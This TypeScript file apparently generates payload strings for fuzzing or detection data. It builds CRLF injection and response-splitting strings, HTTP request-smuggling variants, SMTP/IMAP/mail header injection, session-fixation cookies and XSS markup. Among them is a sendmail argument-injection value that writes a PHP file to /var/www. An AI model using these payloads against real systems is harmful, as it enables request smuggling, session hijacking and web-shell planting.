/** Line breaks that become headers: response splitting, mail headers, smuggled requests, session fixation. */

import { grammar, lines } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";

const RULES = grammar({
  ...LEXICON,
  b: ["\u0001"],
  lineBreak: [
    ["%0d%0a", 6],
    ["\r\n", 6],
    ["%0a", 3],
    ["\n", 2],
    ["%0d", 1],
    ["\r", 1],
    ["%0D%0A", 3],
    ["%E5%98%8A%E5%98%8D", 2],
    ["嘊嘍", 1],
    ["\\r\\n", 2],
    ["%250d%250a", 1],
    ["%23%0d%0a", 1],
    ["%3f%0d", 0.5],
    ["%u000d%u000a", 0.5],
    ["%00%0d%0a", 0.5],
    ["%0d%0a%09", 0.5],
    ["%%0d0d%%0a0a", 0.3],
    ["%5cr%5cn", 0.3],
    ["\r\n\t", 0.4],
    ["\\n", 0.4],
    ["%c4%8d%c4%8a", 0.5],
    ["čĊ", 0.4],
    ["%25%30%64%25%30%61", 0.3],
    ["%2e%2e%2f%0d%0a", 0.3],
    ["\u2028", 0.2],
    ["%0d%0a%20", 0.3],
  ],
  pre: ["«»", "«»", "«rnd»", "«int»", "/", "/«rnd»", "?", "«noun»", "crlf", "«url»", "en", "/%5c%2e%2e"],
  crlf: [
    ["«pre»«b»«header»", 12],
    ["«pre»«b»«header»«b»«header»", 3],
    ["«pre»«b»«header»«b»«b»«markup»", 5],
    ["«pre»«b»«b»«markup»", 4],
    [
      "«pre»«b»Content-Length:«sp»0«b»«b»HTTP/1.1«sp»200«sp»OK«b»Content-Type:«sp»text/html«b»Content-Length:«sp»«int»«b»«b»«markup»",
      4,
    ],
    ["«pre»«b»HTTP/1.«1|0»«sp»«200 OK|302 Found»«b»«header»", 2],
    ["«pre»«b»«request»", 3],
    ["«pre»«b»«parameter»", 4],
    ["«pre»«b»«parameter»«b»«parameter»", 1],
    ["«pre»«b»«hname»:«sp»«rnd»", 3],
    ["«pre»«b»«hname»:«sp»«url»", 1],
    ["«pre»«b»«hname»«b» «rnd»", 0.5],
    ["«pre»«sp»HTTP/1.1«b»Host:«sp»«host»«b»«header»", 1],
  ],
  sp: [" ", " ", "", "%20", "+", "%09"],
  parameter: lines`
    «noun»=«rnd»
    «rnd»=«rnd»
    «noun»=«rnd»;«sp»path=/
    «Rnd»-«Rnd»:«sp»«rnd»
    &«noun»=«rnd»
    «rnd»=«int»&«rnd»=«int»
    [«rnd»]
    ?«rnd»=«rnd»`,
  hname: lines`
    «Set-Cookie|Set-cookie|set-cookie|Set-Cookie2|SET-COOKIE»
    «Location|location|Content-Type|content-type|Content-Length|content-length|Content-Disposition|Content-Encoding|Transfer-Encoding|Refresh|Link|Server|Status|Via|Vary|Age|ETag|Expires|Pragma|Allow|Warning|Trailer|Upgrade|Connection|Keep-Alive|Date»
    «Host|Cookie|Referer|User-Agent|Origin|Accept|Accept-Language|Authorization|Range|TE|Forwarded|X-Forwarded-For|X-Forwarded-Host|X-Original-URL|X-Rewrite-URL|X-HTTP-Method-Override|X-Real-IP|X-Frame-Options|X-Injected|Injected-Header|Test-Header»
    «Access-Control-Allow-Credentials|Access-Control-Allow-Origin|Content-Security-Policy|Strict-Transport-Security|X-Content-Type-Options|WWW-Authenticate|Clear-Site-Data|P3P|Last-Modified|Cache-Control»
    «Rnd»-«Rnd»
    X-«Rnd»`,
  header: lines`
    Set-Cookie:«sp»«rnd»=«rnd»«|;«sp»path=/|; HttpOnly|;domain=.«host»»
    Set-Cookie:«sp»«PHPSESSID|JSESSIONID|sessionid|admin|crlf|crlfinjection|«rnd»»=«hex8»
    Location:«sp»«url»
    Location:«sp»//«host»
    X-«Rnd»:«sp»«rnd»
    X-XSS-Protection:«sp»0
    Refresh:«sp»0;url=«url»
    Content-Type:«sp»text/html«|;charset=utf-7»
    Content-Length:«sp»«int»
    Transfer-Encoding:«sp»chunked
    Last-Modified:«sp»Mon, 27 Oct «2003|2025» 14:50:18 GMT
    Access-Control-Allow-Origin:«sp»*
    Host:«sp»«host»
    X-Forwarded-«For|Host»:«sp»«127.0.0.1|«host»»
    Cookie:«sp»«rnd»=«rnd»
    Link:«sp»<«url»>; rel=preload
    Cache-Control:«sp»«no-cache|public, max-age=«big»»
    Status:«sp»«200|302»
    «Rnd»-Header:«sp»«Rnd»
    «rnd»:«sp»«rnd»`,
  markup: [
    "<script>alert(«int»)</script>",
    "<html><h1>«rnd»</h1></html>",
    "<svg onload=alert(document.domain)>",
    "<html>«rnd»</html>",
    "%3Cscript%3Ealert(«int»)%3C/script%3E",
    "<img src=x onerror=alert(«int»)>",
    "<body>«rnd»",
  ],
  request: [
    "GET«sp»/«rnd»«sp»HTTP/1.1«b»Host:«sp»«host»",
    "POST«sp»/«rnd»«sp»HTTP/1.1«b»Host:«sp»«host»«b»Content-Length:«sp»«int»«b»«b»«noun»=«rnd»",
    "GET«sp»http://«host»/«sp»HTTP/1.0«b»«b»",
    "PUT /«rnd».jsp HTTP/1.1«b»Host: «host»",
    "HEAD /«rnd» HTTP/1.1«b»«b»",
    "OPTIONS * HTTP/1.1«b»«header»",
    "TRACE / HTTP/1.0«b»«b»",
  ],

  smuggling: [
    ["«pre»«b»«request»", 5],
    ["0«b»«b»«request»", 4],
    ["«hex1»«b»«rnd»«b»0«b»«b»«request»", 2],
    ["«b»Transfer-Encoding«te»chunked«b»«b»0«b»«b»«request»", 4],
    ["«request»«b»«b»", 3],
    ["«request»«b»Transfer-Encoding«te»chunked", 2],
    ["«b»Content-Length: «int»«b»Content-Length: «int»«b»«b»«request»", 2],
    ["«rnd»«b»GPOST / HTTP/1.1«b»«header»", 1],
    ["«pre» HTTP/«1.1|1.0|2|0.9»«b»«header»«b»«b»«request»", 2],
  ],
  te: [
    ": ",
    " : ",
    ":\t",
    ": x",
    ":\u000b",
    ": xchunked\r\nTransfer-Encoding: ",
    ":«b» ",
    ": identity, ",
    ":",
  ],

  mail: [
    ["«email»«b»«mailheader»", 10],
    ["«email»«b»«mailheader»«b»«mailheader»«b»«b»«rnd» «url»", 4],
    ["«b»«mailheader»", 4],
    ["«rnd»«b»«mailheader»", 3],
    ["«email»«b».«b»«smtp»", 2],
    ["«email»>«b»«smtp»", 2],
    ["«quote»«b»«imap»", 3],
    ['«pre»"«b»«imap»', 2],
    ["«email»%0ABcc:«email»,«email»", 2],
    ["«email»«b»«b»«rnd»", 1],
    ['"«email» -OQueueDirectory=/tmp/ -X/var/www/«rnd».php "@«rnd».com', 1],
    ["«email»,«email»;«email»«b»«mailheader»", 1],
    ["«rnd»«b»«smtp»«b»«smtp»", 2],
  ],
  quote: ['"', "'", '«rnd»"', "«int»", 'INBOX"', "«rnd»"],
  mailheader: [
    "«Cc|CC|cc|Bcc|BCC|bcc»:«sp»«email»",
    "To:«sp»«email»",
    "Subject:«sp»«rnd» «rnd»",
    "From:«sp»«email»",
    "Reply-To:«sp»«email»",
    "Content-Type:«sp»«text/html|multipart/mixed; boundary=«rnd»|text/plain;charset=us-ascii»",
    "MIME-Version:«sp»1.0",
    "X-«Rnd»: «rnd»",
    "Content-Transfer-Encoding: «7bit|base64»",
    "--«rnd»«b»Content-Type: text/html",
    "Return-Path: «email»",
    "X-Mailer: «rnd»",
  ],
  smtp: [
    "MAIL FROM:«<«email»>|«email»»",
    "RCPT TO:«sp»<«email»>",
    "DATA",
    "QUIT",
    "EHLO «rnd»",
    "HELO «host»",
    "RSET",
    "VRFY «rnd»",
    "EXPN «rnd»",
    "AUTH LOGIN",
    "USER «rnd»«b»PASS «rnd»",
    "STAT«b»",
    "RETR «small»",
    "DELE «small»",
    "TOP «small» «int»",
    "UIDL «small»",
    "APOP «rnd» «hex32»",
    "CAPA«b»",
    "NOOP«b».«b»",
    "STARTTLS",
    "DATA«b»Subject: «rnd»«b»«rnd»«b».",
  ],
  imap: [
    "V«digit»«digit»«digit» «imapcmd»",
    "A«int» «imapcmd»",
    "«int4» «imapcmd»",
    "a«digit»«digit» «imapcmd»",
  ],
  imapcmd: [
    "CAPABILITY",
    "FETCH «int»:* (BODY[HEADER])",
    "LOGIN «rnd» «rnd»",
    "SELECT INBOX",
    'LIST "" *',
    "EXAMINE INBOX",
    "CREATE «rnd»",
    "DELETE «rnd»",
    "LOGOUT",
    "SEARCH ALL",
    "STORE «int» +FLAGS (\\Deleted)",
    "RENAME «rnd» «rnd»",
    "UID FETCH 1:* (FLAGS)",
    "NOOP",
    "STATUS «rnd» (MESSAGES)",
  ],

  fixation: [
    '<script>document.cookie="«sid»=«hex32»"</script>',
    'document.cookie="«sid»=«hex32»; expires=«rnd»; domain=«host»"',
    '<meta http-equiv=Set-Cookie content="«sid»=«hex8»">',
    ".cookie;«sid»=«rnd»",
    '<META http-equiv="Set-Cookie" content="«sid»=«rnd»; expires=Fri, 31-Dec-2038 23:59:59 GMT">',
  ],
  sid: [
    "PHPSESSID",
    "JSESSIONID",
    "ASPSESSIONID«Rnd»",
    "ASP.NET_SessionId",
    "sid",
    "CFID",
    "CFTOKEN",
    "jsessionid",
    "sessionid",
    "connect.sid",
    "session_id",
  ],
});

/** One payload spells all its line breaks alike; the grammar marks them, here they get their spelling. */
function broken(rng: Random, start: string): string {
  const lineBreak = RULES(rng, "lineBreak");
  return RULES(rng, start).replaceAll("\u0001", lineBreak);
}

/** CRLF injection and response splitting. */
export const crlf = (rng: Random) => broken(rng, rng.chance(0.06) ? "fixation" : "crlf");
/** Traces of HTTP request smuggling. */
export const smuggling = (rng: Random) => broken(rng, "smuggling");
/** SMTP, IMAP and mail header injection. */
export const mail = (rng: Random) => broken(rng, "mail");
